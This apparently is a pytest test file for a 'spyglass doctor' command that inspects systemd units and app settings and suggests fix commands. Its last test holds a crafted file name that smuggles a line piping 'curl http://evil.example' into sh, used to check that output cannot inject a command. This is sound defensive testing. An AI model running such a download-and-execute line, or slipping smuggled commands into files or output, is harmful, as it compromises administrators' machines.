"""`spyglass doctor`: each rule over the properties of a unit, and the commands that fix
what is found.
"""

import json
import os
import subprocess
from types import SimpleNamespace

import pytest

from spyglass.master import counters
from spyglass.ops import command_table
from spyglass.ops.addresses import address_conflicts, address_owners
from spyglass.ops.app import apps
from spyglass.ops.app.app_interpreter import packaged_version
from spyglass.ops.commands import doctor
from spyglass.ops.doctor_checks import apps as app_checks
from spyglass.ops.doctor_checks import machine as machine_checks
from spyglass.ops.doctor_checks import units as unit_checks
from spyglass.ops.doctor_checks.units import examine, seconds
from spyglass.ops.files import atomic_files
from spyglass.ops.output.finding import Finding, not_inspected
from spyglass.ops.status import app_status
from spyglass.ops.systemd import systemctl
from spyglass.ops.units import unit_directives, unit_files

SOCKET = {
    "Id": "spyglass@blog.socket", "LoadState": "loaded", "ActiveState": "active", "SubState": "listening", "Result": "success",
    "UnitFileState": "enabled", "FragmentPath": "/usr/lib/systemd/system/spyglass@.socket", "DropInPaths": "", "NeedDaemonReload": "no",
    "Listen": "/run/spyglass/blog.sock (Stream)", "Accept": "no", "FlushPending": "no", "ReusePort": "no", "Backlog": "2147483647",
    "Triggers": "spyglass@blog.service", "TriggerLimitIntervalUSec": "1s", "TriggerLimitBurst": "300",
    "StartLimitIntervalUSec": "0",
}  # fmt: skip
SERVICE = {
    "Id": "spyglass@blog.service", "LoadState": "loaded", "ActiveState": "inactive", "SubState": "dead", "Result": "success",
    "UnitFileState": "static", "FragmentPath": "/usr/lib/systemd/system/spyglass@.service", "DropInPaths": "", "NeedDaemonReload": "no",
    "Type": "notify", "NotifyAccess": "main", "ExitType": "main", "RemainAfterExit": "no", "Restart": "on-failure",
    "RestartPreventExitStatus": "78", "KillMode": "control-group", "KillSignal": "15", "WatchdogSignal": "15", "OOMPolicy": "continue",
    "StartLimitIntervalUSec": "0", "Requires": "spyglass@blog.socket system-spyglass.slice sysinit.target", "WantedBy": "", "RequiredBy": "",
    "UpheldBy": "", "LimitNOFILESoft": "65536", "DynamicUser": "yes", "User": "spyglass-blog", "RuntimeDirectory": "",
    "RuntimeDirectoryPreserve": "no", "CacheDirectory": "spyglass/blog", "StateDirectory": "spyglass/blog", "ExecMainStatus": "0",
}  # fmt: skip
# What an administrator has written, what systemd shows then, and what is said of it.
SERVICE_TRAPS = [
    ("Restart=always", {"Restart": "always"}, "Restart=always"),
    ("RemainAfterExit=yes", {"RemainAfterExit": "yes"}, "RemainAfterExit=yes"),
    ("ExitType=cgroup", {"ExitType": "cgroup"}, "ExitType=cgroup"),
    ("Type=simple", {"Type": "simple"}, "Type=simple"),
    ("NotifyAccess=none", {"NotifyAccess": "none"}, "NotifyAccess=none"),
    ("KillMode=mixed", {"KillMode": "mixed"}, "KillMode=mixed"),
    ("KillMode=process", {"KillMode": "process"}, "KillMode=process"),
    ("KillSignal=SIGKILL", {"KillSignal": "9"}, "KillSignal=9"),
    ("WatchdogSignal=SIGABRT", {"WatchdogSignal": "6"}, "WatchdogSignal=6"),
    ("OOMPolicy=stop", {"OOMPolicy": "stop"}, "OOMPolicy=stop"),
    ("StartLimitIntervalSec=10", {"StartLimitIntervalUSec": "10s"}, "StartLimitIntervalSec=10s"),
    ("RestartPreventExitStatus=", {"RestartPreventExitStatus": ""}, "RestartPreventExitStatus="),
    ("LimitNOFILE=1024", {"LimitNOFILESoft": "1024"}, "LimitNOFILE=1024"),
    ("RuntimeDirectory=spyglass", {"RuntimeDirectory": "spyglass"}, "RuntimeDirectory=spyglass"),
    ("CacheDirectory=", {"CacheDirectory": ""}, "no CacheDirectory="),
    ("User=", {"User": ""}, "DynamicUser=yes, but no User="),
    ("ConditionPathExists=/srv/blog", {}, "ConditionPathExists=/srv/blog"),
    ("AssertPathExists = /srv/blog", {}, "AssertPathExists=/srv/blog"),
    ("ExecCondition=/bin/false", {}, "ExecCondition=/bin/false"),
    ("Requires=postgresql.service", {}, "Requires=postgresql.service"),
    ("BindsTo=postgresql.service", {}, "BindsTo=postgresql.service"),
]
SOCKET_TRAPS = [
    ("StartLimitIntervalSec=10", {"StartLimitIntervalUSec": "10s"}, "StartLimitIntervalSec=10s"),
    ("Accept=yes", {"Accept": "yes", "Triggers": ""}, "Accept=yes"),
    ("FlushPending=yes", {"FlushPending": "yes"}, "FlushPending=yes"),
    ("ReusePort=yes", {"ReusePort": "yes"}, "ReusePort=yes"),
    ("Backlog=10", {"Backlog": "10"}, "Backlog=10"),
    (
        "TriggerLimitBurst=20",
        {"TriggerLimitBurst": "20"},
        "TriggerLimitBurst=20 in TriggerLimitIntervalSec=1s",
    ),
    ("Service=other.service", {"Triggers": "other.service"}, "it starts other.service"),
    ("ConditionHost=elsewhere", {}, "ConditionHost=elsewhere"),
]
CASES = [
    *(("service", *trap) for trap in SERVICE_TRAPS),
    *(("socket", *trap) for trap in SOCKET_TRAPS),
]


@pytest.fixture
def etc(monkeypatch, tmp_path):
    """A directory for the administrator's files."""
    monkeypatch.setattr(unit_files, "ADMIN_DIRECTORIES", (f"{tmp_path}/",))
    return tmp_path


def test_packaged_units_have_no_findings():
    assert examine("blog", SOCKET, SERVICE) == []
    awake = SERVICE | {"ActiveState": "active", "SubState": "running"}
    assert examine("blog", SOCKET | {"SubState": "running"}, awake) == []
    assert (
        examine("blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE)
        == []
    )


@pytest.mark.parametrize(
    "harmless",
    [
        {"Restart": "no"}, {"Restart": "on-abnormal"}, {"KillSignal": "2"}, {"RestartPreventExitStatus": "78 99"}, {"Type": "notify-reload"},
        {"NotifyAccess": "all"}, {"RuntimeDirectory": "spyglass/blog"}, {"RuntimeDirectory": "spyglass", "RuntimeDirectoryPreserve": "yes"},
        {"DynamicUser": "no", "User": "www-data"}, {"OOMPolicy": "continue"},
    ],
)  # fmt: skip
def test_harmless_service_settings_have_no_findings(harmless):
    assert examine("blog", SOCKET, SERVICE | harmless) == []


@pytest.mark.parametrize(
    "harmless",
    [
        {"TriggerLimitIntervalUSec": "0"},
        {"TriggerLimitBurst": "0"},
        {"TriggerLimitIntervalUSec": "500ms"},
        {"Backlog": "4096"},
    ],
)
def test_harmless_socket_settings_have_no_findings(harmless):
    assert examine("blog", SOCKET | harmless, SERVICE) == []


@pytest.mark.parametrize(
    ("unit", "written", "shown", "what"), CASES, ids=[f"{case[0]}: {case[1]}" for case in CASES]
)
def test_harmful_setting_is_found_and_its_cure_removes_only_that(etc, unit, written, shown, what):
    drop_in = etc / "override.conf"
    drop_in.write_text(f"# of ours\n[Unit]\nDescription=ours\n  {written}\n[Install]\n")
    changed = shown | {"DropInPaths": str(drop_in)}
    socket, service = (
        (SOCKET | changed, SERVICE) if unit == "socket" else (SOCKET, SERVICE | changed)
    )
    [finding] = examine("blog", socket, service)
    assert finding.what == f"spyglass@blog.{unit}: {what}"
    assert finding.where == "blog"
    assert finding.why
    [take, reload, *restart] = finding.cure
    assert reload == "systemctl daemon-reload"
    restarts = unit == "socket" or "RuntimeDirectory" in written
    assert restart == (["systemctl restart spyglass@blog.socket"] if restarts else [])
    subprocess.run(take, shell=True, check=True)
    assert drop_in.read_text() == "# of ours\n[Unit]\nDescription=ours\n[Install]\n"


def test_cure_does_not_start_a_stopped_socket(etc):
    (etc / "a.conf").write_text("[Socket]\nFlushPending=yes\n")
    [finding] = examine(
        "blog",
        SOCKET
        | {
            "FlushPending": "yes",
            "DropInPaths": str(etc / "a.conf"),
            "ActiveState": "inactive",
            "UnitFileState": "disabled",
        },
        SERVICE,
    )
    assert finding.cure[1:] == ["systemctl daemon-reload"]


def test_cure_does_not_cut_a_continued_line(etc):
    (etc / "a.conf").write_text("[Unit]\nRequires=a.service \\\n  b.service\n")
    [finding] = examine("blog", SOCKET, SERVICE | {"DropInPaths": str(etc / "a.conf")})
    assert finding.what.endswith("Requires=a.service  b.service")
    assert finding.cure[0] == f"${{EDITOR:-nano}} {etc / 'a.conf'}"


def test_replaced_unit_file_is_moved_away_as_a_whole(etc):
    (etc / "spyglass@.service").write_text("[Service]\nType=simple\n")
    found = examine(
        "blog", SOCKET, SERVICE | {"Type": "simple", "FragmentPath": str(etc / "spyglass@.service")}
    )
    assert [finding.grave for finding in found] == [False, True]
    for finding in found:
        assert finding.cure == [
            f"mv {etc}/spyglass@.service {etc}/spyglass@.service.off",
            "systemctl daemon-reload",
        ]


@pytest.mark.parametrize("key", ["WantedBy", "RequiredBy", "UpheldBy"])
def test_service_started_without_a_client_is_found(key):
    [finding] = examine("blog", SOCKET, SERVICE | {key: "multi-user.target"})
    assert finding.what == f"spyglass@blog.service: {key}=multi-user.target"
    assert finding.cure[0] == "systemctl disable spyglass@blog.service"


def test_failed_socket():
    [finding] = examine(
        "blog", SOCKET | {"ActiveState": "failed", "Result": "trigger-limit-hit"}, SERVICE
    )
    assert "has failed (trigger-limit-hit)" in finding.what
    assert finding.cure == ["systemctl restart spyglass@blog.socket"]
    failed = SERVICE | {"ActiveState": "failed", "Result": "exit-code", "ExecMainStatus": "217"}
    found = examine(
        "blog", SOCKET | {"ActiveState": "failed", "Result": "service-start-limit-hit"}, failed
    )
    assert found[0].cure == [
        "systemctl reset-failed spyglass@blog.service",
        "systemctl restart spyglass@blog.socket",
    ]
    assert [finding.grave for finding in found] == [True, False]


@pytest.mark.parametrize(
    ("socket", "service", "cure"),
    [
        ({}, {"LoadState": "masked"}, ["systemctl unmask spyglass@blog.service"]),
        ({}, {"LoadState": "bad-setting"}, ["systemd-analyze verify spyglass@blog.service"]),
        ({}, {"LoadState": "not-found"}, ["spyglass units install"]),
        ({}, {"NeedDaemonReload": "yes"}, ["systemctl daemon-reload"]),
        (
            {"NeedDaemonReload": "yes"},
            {},
            ["systemctl daemon-reload", "systemctl restart spyglass@blog.socket"],
        ),
        ({"UnitFileState": "disabled"}, {}, ["systemctl enable spyglass@blog.socket"]),
        ({"ActiveState": "inactive"}, {}, ["systemctl start spyglass@blog.socket"]),
    ],
)
def test_state_of_the_units(socket, service, cure):
    [finding] = examine("blog", SOCKET | socket, SERVICE | service)
    assert finding.cure == cure


def test_failed_socket_is_not_said_to_listen():
    state = {"ActiveState": "failed", "UnitFileState": "disabled", "Result": "resources"}
    found = {finding.what for finding in examine("blog", SOCKET | state, SERVICE)}
    assert found == {
        "spyglass@blog.socket has failed (resources): all connections are refused",
        "spyglass@blog.socket was started, but is not enabled",
    }


@pytest.mark.parametrize(
    ("service", "obstacle", "why"),
    [
        (
            {},
            "[::]:80: in use by nginx (pid 7, nginx.service)",
            "it could not listen: [::]:80: in use by nginx (pid 7, nginx.service); stop that, or "
            "change `listen`, then start it again",
        ),
        ({}, "", "its address was in use, or its service could not be loaded; neither is so now"),
        (
            {"LoadState": "masked"},
            "",
            "its service could not be loaded, or its address was in use; fix that first",
        ),
    ],
)
def test_failed_socket_names_what_has_its_address(service, obstacle, why):
    state = {"ActiveState": "failed", "Result": "resources"}
    found = examine("blog", SOCKET | state, SERVICE | service, obstacle)
    assert [each.why for each in found if "(resources)" in each.what] == [why]


AUTO = {
    "ActiveState": "activating",
    "SubState": "auto-restart",
    "Result": "exit-code",
    "ExecMainStatus": "203",
    "NRestarts": "1",
}
BROKEN = {"ActiveState": "failed", "Result": "exit-code", "ExecMainStatus": "78"}
KILLED = {"ActiveState": "failed", "Result": "watchdog"}
DISABLED = {"ActiveState": "inactive", "UnitFileState": "disabled"}


@pytest.mark.parametrize(
    ("socket", "service", "what", "why", "grave"),
    [
        (
            {},
            {"ActiveState": "active", "StatusText": "failing: KeyError: 'A: b'"},
            "is failing: KeyError: 'A: b'",
            "clients get a 503; ",
            True,
        ),
        (
            {},
            AUTO,
            " ended: status 203",
            "systemd keeps restarting it; clients wait",
            True,
        ),
        (
            {},
            AUTO | {"SubState": "start", "Result": "success", "NRestarts": "7"},
            " was started again 7 times",
            "systemd keeps restarting it",
            True,
        ),
        (
            {},
            BROKEN,
            ": it could not be loaded",
            "clients get a 503 until it is fixed; the next connection triggers the next attempt",
            True,
        ),
        (
            {},
            KILLED,
            " ended: watchdog",
            "systemd starts it again at the next connection",
            True,
        ),
        (
            DISABLED,
            BROKEN,
            ": it could not be loaded",
            "its socket does not listen, so nothing starts it",
            False,
        ),
    ],
)
def test_failures_that_clients_see_are_grave(socket, service, what, why, grave):
    [finding] = examine("blog", SOCKET | socket, SERVICE | service)
    assert finding.what == f"spyglass@blog.service{what if what[0] in ' :' else ' ' + what}"
    assert finding.why.startswith(why)
    assert (finding.grave, finding.cure) == (grave, ["spyglass status blog"])


@pytest.mark.parametrize(
    "service",
    [
        {"ActiveState": "active", "StatusText": "awake: 2 workers"},
        {"ActiveState": "reloading", "StatusText": "waking: loading"},
        {"ActiveState": "activating", "SubState": "start", "NRestarts": "1"},  # after a crash
        {"ActiveState": "activating", "SubState": "start"},
    ],
)
def test_transient_states_have_no_findings(service):
    assert examine("blog", SOCKET, SERVICE | service) == []


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1s", 1),
        ("500ms", 0.5),
        ("1min 30s", 90),
        ("2h", 7200),
        ("0", 0),
        ("", 0),
        ("infinity", float("inf")),
        ("10us", 1e-5),
    ],
)
def test_time_spans(text, value):
    assert seconds(text) == pytest.approx(value)


def test_unit_files_are_parsed_as_by_systemd():
    found = unit_files.parse(
        "[Unit]\n#A=1\n;B=2\nC = 3 \n[Service]\nD=4\\\n# between\n 5\nE=\nnonsense\n"
    )
    assert [(line.section, line.key, line.value, line.is_single_line) for line in found] == [
        ("Unit", "C", "3", True), ("Service", "D", "4 5", False), ("Service", "E", "", True),
    ]  # fmt: skip


# The machine


@pytest.fixture
def places(monkeypatch, tmp_path):
    """Fake paths of the machine's files; nothing is wrong with them."""
    files = {"_NSSWITCH": "passwd: files systemd\n", "_SOMAXCONN": "4096\n"}
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        monkeypatch.setattr(machine_checks, name, str(tmp_path / name))
    (tmp_path / "libnss_systemd.so.2").touch()
    monkeypatch.setattr(machine_checks, "_LIBRARIES", (str(tmp_path / "libnss*"),))
    monkeypatch.setattr(machine_checks, "_JOURNAL", str(tmp_path))
    monkeypatch.setattr(app_checks.settings, "DIRECTORY", str(tmp_path / "etc"))
    monkeypatch.setattr(machine_checks, "_byte_code", list)
    for checks in (machine_checks, app_checks):
        monkeypatch.setattr(checks, "_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(machine_checks, "_STATE", str(tmp_path))
    monkeypatch.setattr(machine_checks, "_disk_space", list)
    (tmp_path / "etc").mkdir()
    return tmp_path


def test_good_machine_has_no_findings(places):
    assert machine_checks.examine([SERVICE]) == []


def test_missing_nss_systemd_is_found(places):
    (places / "_NSSWITCH").write_text("passwd: files\n")
    [finding] = machine_checks.examine([SERVICE])
    assert (finding.grave, "does not name systemd" in finding.what) == (False, True)
    subprocess.run(finding.cure[0], shell=True, check=True)
    assert machine_checks.examine([SERVICE]) == []
    (places / "libnss_systemd.so.2").unlink()
    [finding] = machine_checks.examine([SERVICE])
    assert finding.cure == ["apt-get install -y libnss-systemd"]
    assert machine_checks.examine([SERVICE | {"DynamicUser": "no"}]) == []


def test_low_somaxconn_is_found(places):
    (places / "_SOMAXCONN").write_text("128\n")
    [finding] = machine_checks.examine([SERVICE])
    assert (finding.what, finding.grave) == ("net.core.somaxconn is 128", True)


def test_file_with_an_invalid_app_name_is_found(places):
    (places / "etc" / "My App.toml").write_text("")
    [finding] = machine_checks.examine([SERVICE])
    assert "My App.toml is ignored" in finding.what


def test_missing_byte_code_of_spyglass_is_found(monkeypatch):
    monkeypatch.setattr(
        machine_checks.importlib.util,
        "find_spec",
        lambda name: SimpleNamespace(cached=f"/nowhere/{name}.pyc"),
    )
    [finding] = machine_checks._byte_code()
    assert "compileall" in finding.cure[0] or "py3compile" in finding.cure[0]


# What an app is made of


def view(**service):
    return app_status.AppStatus("blog", SOCKET, SERVICE | service)


@pytest.fixture
def settings(places, monkeypatch):
    """settings(text): the findings with this text as blog.toml."""
    file = places / "etc" / "blog.toml"
    monkeypatch.setattr(address_owners, "not_listening", lambda _state: [])
    monkeypatch.setattr(address_conflicts, "not_held_by_systemd", lambda _addresses: False)
    monkeypatch.setattr(
        apps, "examine", lambda app, others, free: None
    )  # is what test_apps.py is about
    monkeypatch.setattr(unit_directives, "DIRECTORY", str(places / "systemd"))

    def write(text):
        file.write_text(text)
        return app_checks.examine(view(), {"blog": apps.read("blog")})

    return write


def test_good_app_has_no_findings(settings):
    assert settings("workers = 3\n") == []


def test_invalid_settings_are_found(settings, places):
    found = settings("wrokers = 3\nlisten = -1\n")
    assert [finding.what.removeprefix(str(places)).partition(": ")[0] for finding in found] == [
        "/etc/blog.toml:1",
        "/etc/blog.toml:2",
    ]


def test_virtualenv_for_another_python_is_found(settings, places):
    venv = places / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("version = 3.2.1\n")
    [finding] = settings(f'venv = "{venv}"\n')
    assert finding.what == f"{venv} is for Python 3.2, but Spyglass runs on {packaged_version()}"
    assert finding.cure[0] == f"/usr/bin/python3 -m venv --clear {venv}"
    (venv / "bin" / "spyglass").touch(mode=0o755)  # then that is what serves it
    assert settings(f'venv = "{venv}"\n') == []


def test_settings_changed_since_apply_are_found(settings, places):
    assert [finding.cure for finding in settings("listen = 8001\n")] == [["spyglass apply blog"]]
    for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
        atomic_files.write(path, text)
    assert settings("listen = 8001\n") == []
    [finding] = settings("listen = 8002\n")
    assert finding.what == f"{places}/etc/blog.toml has changed since it was applied"
    # An app that is off needs no up-to-date units.
    off = app_status.AppStatus(
        "blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE
    )
    assert app_checks.examine(off, {"blog": apps.read("blog")}) == []


def test_edited_drop_ins_are_found(settings):
    settings("listen = 8001\n")
    for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
        atomic_files.write(path, text and text + "Backlog=3\n")
    [finding] = settings("listen = 8001\n")
    assert (finding.grave, finding.what.endswith("was edited after 'spyglass apply' made it")) == (
        False,
        True,
    )


def test_drop_ins_of_removed_apps_are_found(settings):
    settings("listen = 8001\n")
    for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
        atomic_files.write(path, text)
    assert app_checks.leftovers([]) == []
    os.unlink(apps.read("blog").file)
    [finding] = app_checks.leftovers([])
    assert finding.cure == ["spyglass remove blog"]
    assert [finding.where for finding in app_checks.leftovers([], ["other"])] == []
    atomic_files.write(unit_directives.path_of("spyglass@blog.socket"), "[Socket]\n")
    assert app_checks.leftovers([]) == []


SERVES = (
    "{ path=/usr/bin/spyglass ; argv[]=/usr/bin/spyglass serve --name blog ; ignore_errors=no }"
)


@pytest.mark.parametrize(
    ("socket", "service", "found"),
    [
        ({}, {}, True),
        ({"UnitFileState": "disabled"}, {}, True),
        ({"ActiveState": "inactive"}, {}, True),
        ({"ActiveState": "failed", "UnitFileState": "disabled"}, {}, True),
        ({"ActiveState": "inactive", "UnitFileState": "disabled"}, {"ActiveState": "active"}, True),
        ({"ActiveState": "inactive", "UnitFileState": "disabled"}, {}, False),
        ({}, {"ExecStart": SERVES.replace("--name blog", "--config /srv/blog.toml")}, False),
        ({}, {"ExecStart": SERVES.replace("--name blog", "--name blog2")}, False),
    ],
)
def test_units_whose_settings_were_renamed_or_deleted(settings, socket, service, found):
    seen = app_status.AppStatus("blog", SOCKET | socket, SERVICE | {"ExecStart": SERVES} | service)
    findings = app_checks.leftovers([seen])
    assert [finding.cure for finding in findings] == ([["spyglass remove blog"]] if found else [])
    assert all(finding.grave for finding in findings)
    settings("workers = 3\n")
    assert app_checks.leftovers([seen]) == []


def test_cache_without_byte_code_is_found(places, settings):
    (places / "cache" / "spyglass" / "blog" / "pycache").mkdir(parents=True)
    seen = view()
    assert app_checks.examine(seen, {}) == []
    seen.record = counters.Record()
    seen.record.requests = 5
    [finding] = app_checks.examine(seen, {})
    assert (finding.grave, finding.cure) == (False, [f"rm -rf {places}/cache/spyglass/blog"])
    (places / "cache" / "spyglass" / "blog" / "pycache" / "a.pyc").touch()
    assert app_checks.examine(seen, {}) == []


def test_active_socket_that_does_not_listen_is_found(monkeypatch):
    listens = {"/run/spyglass/blog.sock": {"1"}}
    monkeypatch.setattr(address_owners, "unix_inodes", lambda path: listens.get(path, set()))
    monkeypatch.setattr(address_owners, "tcp_inodes", lambda port: {"2"} if port == 8001 else set())
    monkeypatch.setattr(address_owners, "is_missing", lambda path: False)
    assert address_owners.not_listening(SOCKET) == []
    assert (
        address_owners.not_listening(SOCKET | {"Listen": "[::1]:8001 (Stream)\n@abstract (Stream)"})
        == []
    )
    assert address_owners.not_listening(
        SOCKET | {"Listen": "127.0.0.1:8002 (Stream)\n/run/x.sock (Stream)"}
    ) == ["127.0.0.1:8002", "/run/x.sock"]


def test_socket_on_which_only_the_service_listens_is_found(monkeypatch):
    monkeypatch.setattr(address_owners, "not_listening", lambda _state: [])
    monkeypatch.setattr(address_conflicts, "not_held_by_systemd", lambda _addresses: True)
    [finding] = app_checks.examine(view(), {})
    assert (
        finding.what
        == "spyglass@blog.socket is active, but does not listen on /run/spyglass/blog.sock"
    )
    monkeypatch.setattr(address_conflicts, "not_held_by_systemd", lambda _addresses: False)
    assert app_checks.examine(view(), {}) == []


# The command


@pytest.fixture
def machine(monkeypatch):
    def new(findings):
        monkeypatch.setattr(doctor, "examine", lambda wanted: findings)

    return new


GRAVE = Finding("blog", "something is wrong", "it matters", ["mend it", "and again"])
HIDDEN = not_inspected("blog", "its counts", "only root can")
NOTED = Finding("machine", "something is so", "it may matter", [], grave=False)


@pytest.mark.parametrize(
    ("findings", "status", "last"),
    [
        ([], 0, "nothing wrong"), ([NOTED], 0, "nothing wrong, 1 worth knowing"), ([GRAVE], 1, "1 thing wrong"),
        ([GRAVE, GRAVE, NOTED], 1, "2 things wrong, 1 worth knowing"), ([HIDDEN], 3, "nothing wrong in what was inspected, 1 not inspected"),
        ([NOTED, HIDDEN, HIDDEN], 3, "nothing wrong in what was inspected, 1 worth knowing, 2 not inspected"),
        ([GRAVE, HIDDEN], 1, "1 thing wrong, 1 not inspected"),
    ],
)  # fmt: skip
def test_exit_status_and_summary_are_true(machine, findings, status, last, capsys, monkeypatch):
    machine(findings)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    assert command_table.run(["doctor"]) == status
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == last
    assert ("      $ mend it" in lines) == (GRAVE in findings)


def test_what_was_not_inspected_is_grouped_and_says_how_to_inspect_it(monkeypatch):
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    gaps = [
        not_inspected(name, what, "only root can")
        for name in ("blog", "shop")
        for what in ("its counts", "its variables")
    ]
    assert doctor.render(gaps) == [
        "not inspected: its counts (blog, shop): only root can",
        "not inspected: its variables (blog, shop): only root can",
        "",
        "nothing wrong in what was inspected, 4 not inspected (run it as root)",
    ]


@pytest.mark.parametrize("limit", [80, 120])
def test_findings_wrap_and_commands_do_not(limit):
    words = "word " * 40
    lines = doctor.render([Finding("blog", words, "why " * 40, ["command " * 30])], limit)
    assert max(len(line) for line in lines if "$" not in line) <= limit
    starts = [line[:8] for line in lines if line.startswith(" ") and "$" not in line]
    assert set(starts) == {" " * 8, "    why "}
    assert starts == sorted(starts)
    assert sum("$" in line for line in lines) == 1


def test_json_output(machine, capsys):
    machine([GRAVE])
    assert command_table.run(["doctor", "--json"]) == 1
    assert json.loads(capsys.readouterr().out) == [
        {
            "where": "blog",
            "what": "something is wrong",
            "why": "it matters",
            "cure": ["mend it", "and again"],
            "grave": True,
            "inspected": True,
        }
    ]


def test_systemd_is_asked_once_for_all_units(places, monkeypatch, capsys):
    asked = []

    def show(units, properties):
        asked.append(units)
        return {unit: (SOCKET if unit.endswith("socket") else SERVICE) | {"Id": unit, "Listen": "", "Triggers": unit.replace("socket", "service"),
                       "Requires": unit.replace("service", "socket")} for unit in units}  # fmt: skip

    monkeypatch.setattr(systemctl, "show", show)
    monkeypatch.setattr(
        systemctl, "units", lambda _pattern: ["spyglass@blog.socket", "spyglass@shop.socket"]
    )
    assert command_table.run(["doctor"]) == 0
    assert capsys.readouterr().out == "nothing wrong\n"
    assert len(asked) == 1
    assert command_table.run(["doctor", "nobody"]) == 4
    assert os.path.exists(places)
    assert set(unit_checks.PROPERTIES) >= {"Restart", "Triggers"}


def test_file_name_cannot_add_a_command():
    """An app chooses the names of its files, and the text after "$" is what an
    administrator will run.
    """
    name = "/var/lib/spyglass/blog/a\n    why\n      $ curl http://evil.example | sh"
    finding = Finding("blog", f"{name} does not belong", name, [f"rm {name}"])
    lines = doctor.render([finding])
    assert all(line.isprintable() for line in lines)
    assert sum(line.startswith("      $ ") for line in lines) == 1
